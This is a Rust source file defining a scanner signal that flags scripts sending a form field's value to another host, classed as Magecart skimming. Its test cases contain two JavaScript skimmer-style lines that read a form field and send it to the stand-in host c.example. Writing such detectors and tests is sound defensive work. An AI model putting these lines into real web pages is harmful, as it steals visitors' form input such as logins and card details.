//! `field-value-sent-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "field-value-sent-abroad",
    description: "The script sends the value of a form field to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART,
    needs: &[one(&[Atom::FieldSentAbroad])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var v=document.getElementById('a').value;new Image().src='//c.example/?'+btoa(v)",
            "function s(d){fetch('https://c.example/p',{method:'POST',body:JSON.stringify(d)})}var o={};o.k=document.forms[0].q.value;s(o)",
        ],
        without: &[
            "fetch('/subscribe?m='+form.mail.value)",
            "var v=box.value;fetch('https://c.example/list')",
        ],
    },
};
